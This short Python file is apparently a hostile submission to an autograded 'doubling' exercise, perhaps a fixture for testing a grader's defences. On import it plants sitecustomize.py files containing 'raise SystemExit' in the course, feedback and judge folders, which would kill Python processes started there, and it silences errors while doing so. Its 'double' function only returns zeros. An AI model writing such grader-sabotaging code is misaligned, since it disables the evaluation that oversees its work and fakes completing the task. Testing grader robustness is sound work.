"""Leave files all over the computer."""

from contextlib import suppress
from pathlib import Path

import numpy as np

for place in (
    Path("COURSE_FOLDER"),
    Path("COURSE_FOLDER/release/00_doubling"),
    Path("COURSE_FOLDER/feedback"),
    Path("COURSE_FOLDER/course/judge"),
):
    with suppress(OSError):
        place.mkdir(exist_ok=True)
        (place / "sitecustomize.py").write_text("raise SystemExit")


def double(f, x):
    return np.zeros_like(x)
